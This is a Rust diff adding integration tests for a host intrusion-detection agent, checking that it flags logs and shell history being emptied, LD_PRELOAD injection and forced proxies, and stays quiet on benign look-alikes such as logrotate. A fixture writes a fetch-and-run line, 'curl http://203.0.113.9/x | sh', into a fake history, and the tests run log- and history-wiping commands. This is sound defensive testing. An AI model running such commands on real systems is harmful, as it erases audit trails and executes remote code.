@@ -2017,3 +2017,214 @@ fn memory_of_another_process_and_a_process_hidden_by_a_mount() {
     assert!(raised.is_empty(), "{tmpfs} {procfs}: {raised:#?}");
     let _ = victim.0.kill();
 }
+
+/// Logs and shell history emptied in place (a redirect, `truncate -s 0`, `cp
+/// /dev/null`), in /var/log and a directory below it; next to appending to a log,
+/// logrotate rotating one with copytruncate, and bash saving its history.
+#[test]
+fn logs_and_history_truncated_and_the_rotation_that_is_not_an_attack() {
+    root!("logs_and_history_truncated_and_the_rotation_that_is_not_an_attack");
+    let me = std::process::id();
+    struct RemoveTree(PathBuf);
+    impl Drop for RemoveTree {
+        fn drop(&mut self) {
+            let _ = fs::remove_dir_all(&self.0);
+        }
+    }
+    // Made before the agent starts (see the README on directories made later).
+    let logdir = RemoveTree(PathBuf::from(format!("/var/log/vigil-test-{me}")));
+    fs::create_dir(&logdir.0).unwrap();
+    let top = RemoveOnDrop(PathBuf::from(format!("/var/log/vigil-test-{me}.log")));
+    let nested = logdir.0.join("app.log");
+    let rotated = logdir.0.join("rotated.log");
+    for f in [&top.0, &nested, &rotated] {
+        fs::write(f, "an entry\n").unwrap();
+    }
+    let home = RemoveTree(PathBuf::from(format!("/home/vigil-test-{me}")));
+    fs::create_dir(&home.0).unwrap();
+    let history = home.0.join(".bash_history");
+    fs::write(&history, "curl http://203.0.113.9/x | sh\n").unwrap();
+    let agent = Agent::start(None);
+    let expect = |rule: &str, mitre: &str, command: &str| -> Finding {
+        let since = now_ms();
+        let (pid, ok) = sh_ok(command);
+        assert!(ok, "{command}");
+        agent.expect(rule, mitre, since, Instant::now(), |f| pid_of(f) == pid)
+    };
+
+    // A redirect in a shell (open with O_TRUNC), in /var/log itself.
+    let f = expect(
+        "log-file-truncated",
+        "T1070.002",
+        &format!("sh -c ': > {}'", top.0.display()),
+    );
+    assert_eq!(f.details["path"], top.0.to_str().unwrap());
+    assert_eq!(f.details["operation"], "open_truncate");
+    // truncate -s 0 (ftruncate), in a directory below it.
+    let f = expect(
+        "log-file-truncated",
+        "T1070.002",
+        &format!("truncate -s 0 {}", nested.display()),
+    );
+    assert_eq!(f.details["path"], nested.to_str().unwrap());
+    assert_eq!(f.details["operation"], "ftruncate");
+    assert_eq!(fs::metadata(&nested).unwrap().len(), 0);
+
+    // Shell history emptied: by a redirect, then (the file saved again) by cp.
+    let f = expect(
+        "shell-history-cleared",
+        "T1070.003",
+        &format!("bash -c ': > {}'", history.display()),
+    );
+    assert_eq!(f.details["path"], history.to_str().unwrap());
+    assert_eq!(f.details["size_after"], "0");
+
+    // The nearest benign acts: appending to a log; logrotate with copytruncate (it
+    // empties the log it copied); bash saving its history (a new file renamed over the
+    // old, then appended to).
+    let since = now_ms();
+    let (append, ok) = sh_ok(&format!("sh -c 'echo more >> {}'", top.0.display()));
+    assert!(ok);
+    let conf = logdir.0.join("logrotate.conf");
+    fs::write(
+        &conf,
+        format!(
+            "{} {{\n  copytruncate\n  rotate 1\n  missingok\n}}\n",
+            rotated.display()
+        ),
+    )
+    .unwrap();
+    let state = logdir.0.join("logrotate.state");
+    let (logrotate, ok) = sh_ok(&format!(
+        "logrotate --force --state {} {}",
+        state.display(),
+        conf.display()
+    ));
+    assert!(ok, "logrotate failed");
+    assert_eq!(
+        fs::metadata(&rotated).unwrap().len(),
+        0,
+        "copytruncate emptied it"
+    );
+    let (save, ok) = sh_ok(&format!(
+        "bash -c 'set -o history; HISTFILE={}; history -s ls; history -w'",
+        history.display()
+    ));
+    assert!(ok);
+    assert!(fs::metadata(&history).unwrap().len() > 0);
+    agent.settle();
+    for pid in [append, logrotate, save] {
+        assert!(findings_of(&agent, "log-file-truncated", since, pid).is_empty());
+        assert!(findings_of(&agent, "shell-history-cleared", since, pid).is_empty());
+    }
+    // The saved history is a new file: it is followed (looked up again when bash
+    // exits), so emptying it again is seen.
+    let f = expect(
+        "shell-history-cleared",
+        "T1070.003",
+        &format!("python3 -c \"open('{}', 'w').close()\"", history.display()),
+    );
+    assert_eq!(f.details["path"], history.to_str().unwrap());
+    assert_eq!(f.event, "truncate");
+}
+
+/// A library preloaded and a proxy forced through the environment of an exec (read in
+/// the kernel at the call, decided on with the program the exec started), wherever the
+/// variable sits in the environment; next to an allocator preloaded on purpose and
+/// variables of no consequence.
+#[test]
+fn ld_preload_and_proxies_in_an_exec_environment() {
+    root!("ld_preload_and_proxies_in_an_exec_environment");
+    let libs = tempfile::tempdir().unwrap();
+    let lib = fs::read_link("/lib/x86_64-linux-gnu/libm.so.6")
+        .map(|l| Path::new("/lib/x86_64-linux-gnu").join(l))
+        .unwrap_or_else(|_| PathBuf::from("/lib/x86_64-linux-gnu/libm.so.6"));
+    let hook = libs.path().join("libhook.so");
+    let allocator = libs.path().join("libjemalloc.so.2");
+    fs::copy(&lib, &hook).unwrap();
+    fs::copy(&lib, &allocator).unwrap();
+    let agent = Agent::start(None);
+    // `filler` variables first: the wanted one is past the first chunks the kernel reads.
+    let exec = |prog: &str, vars: &[(&str, &str)], filler: usize| -> u32 {
+        let mut cmd = Command::new(prog);
+        cmd.env_clear();
+        for i in 0..filler {
+            cmd.env(format!("VIGIL_FILLER_{i:03}"), "x");
+        }
+        cmd.envs(vars.iter().copied())
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+        let child = cmd.spawn().unwrap();
+        let pid = child.id();
+        assert!(child.wait_with_output().unwrap().status.success());
+        pid
+    };
+    let since = now_ms();
+    let pid = exec("/bin/true", &[("LD_PRELOAD", hook.to_str().unwrap())], 0);
+    let f = agent.expect(
+        "ld-preload-in-environment",
+        "T1574.006",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["env.name"], "LD_PRELOAD");
+    assert_eq!(f.details["env.value"], hook.to_str().unwrap());
+    assert_eq!(
+        f.process.unwrap().exe,
+        "/bin/true",
+        "the program it started"
+    );
+    // Deep in a long environment, by another program.
+    let since = now_ms();
+    let pid = exec("/bin/echo", &[("LD_PRELOAD", hook.to_str().unwrap())], 90);
+    agent.expect(
+        "ld-preload-in-environment",
+        "T1574.006",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    // A proxy forced on a download tool, in either case.
+    let since = now_ms();
+    let pid = exec("/bin/true", &[("https_proxy", "http://127.0.0.1:8080")], 10);
+    let f = agent.expect(
+        "proxy-set-in-environment",
+        "T1090",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["env.value"], "http://127.0.0.1:8080");
+    let since = now_ms();
+    let pid = exec("/bin/echo", &[("ALL_PROXY", "socks5://127.0.0.1:1080")], 0);
+    agent.expect(
+        "proxy-set-in-environment",
+        "T1090",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    // The nearest benign acts: an allocator preloaded on purpose, a library path, a
+    // no_proxy list.
+    let since = now_ms();
+    let quiet = [
+        exec("/bin/ls", &[("LD_PRELOAD", allocator.to_str().unwrap())], 0),
+        exec(
+            "/bin/ls",
+            &[("LD_LIBRARY_PATH", libs.path().to_str().unwrap())],
+            0,
+        ),
+        exec("/bin/ls", &[("no_proxy", "localhost,127.0.0.1")], 0),
+    ];
+    agent.settle();
+    for pid in quiet {
+        for rule in ["ld-preload-in-environment", "proxy-set-in-environment"] {
+            assert!(
+                findings_of(&agent, rule, since, pid).is_empty(),
+                "{rule} {pid}"
+            );
+        }
+    }
+}
